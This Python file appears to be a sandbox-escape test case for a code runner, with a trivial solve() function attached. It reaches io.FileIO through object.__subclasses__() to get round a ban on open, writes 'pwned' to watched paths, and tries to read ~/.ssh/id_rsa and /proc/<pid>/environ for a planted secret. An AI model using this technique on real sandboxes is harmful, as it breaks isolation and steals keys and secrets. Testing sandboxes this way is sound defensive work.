"""Reach io.FileIO through object.__subclasses__() (no ``open`` call) to write outside and read secrets."""
# tags: escape
io_classes = {c.__name__: c for c in object.__subclasses__()}
stack = list(object.__subclasses__())
while stack:
    c = stack.pop()
    try:
        subs = c.__subclasses__()
    except TypeError:
        continue
    for s in subs:
        io_classes.setdefault(s.__name__, s)
        stack.append(s)
FileIO = io_classes.get("FileIO")
if FileIO is not None:
    for path in (SENTINEL, WATCHED + "/keep.txt", f"/tmp/cogumi-escape-{TOKEN}-fileio"):
        try:
            f = FileIO(path, "a")
            f.write(b"pwned")
            f.close()
            escaped("FileIO write " + path)
        except Exception:
            pass
    for path in (FAKE_HOME + "/.ssh/id_rsa", f"/proc/{VICTIM_PID}/environ"):
        try:
            data = FileIO(path, "r").read()
            if SECRET_NAME.encode() in data:
                escaped("FileIO read " + path)
        except Exception:
            pass
def solve(x):
    return x
